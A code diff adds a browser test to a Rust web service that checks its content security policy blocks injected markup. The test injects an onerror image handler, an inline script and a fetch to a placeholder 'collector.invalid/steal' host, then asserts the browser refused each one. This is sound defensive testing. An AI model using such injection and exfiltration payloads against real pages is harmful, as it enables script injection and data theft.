@@ -67,6 +67,27 @@ async fn the_service_serves_the_spa_and_api_on_one_port() {
     with_browser("one_port", async |b| {
         b.open_fresh(&format!("{site}/")).await?;
         b.wait_for_text("h1", "Hearth video visits").await?;
+
+        // Markup injected into the page cannot run script or send data
+        // elsewhere: the browser enforces the policy the service sent.
+        b.eval(
+            "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.injected = 1\">');
+             const s = document.createElement('script'); s.textContent = 'window.injected = 2'; document.body.append(s);
+             fetch('https://collector.invalid/steal').catch(() => {});
+             return null",
+        )
+        .await?;
+        tokio::time::sleep(std::time::Duration::from_millis(500)).await;
+        if b.eval("return window.injected ?? null").await? != serde_json::Value::Null {
+            return Err("injected script ran".into());
+        }
+        let refused = b.policy_refusals().await;
+        for what in ["inline event handler", "inline script", "Connecting to"] {
+            if !refused.iter().any(|line| line.contains(what)) {
+                return Err(format!("no refusal of the {what}: {refused:?}"));
+            }
+        }
+
         b.open_fresh(&format!("{site}/healthz")).await?;
         b.wait_for_text("body", "\"video_mode\":\"local\"").await?;
         Ok(())
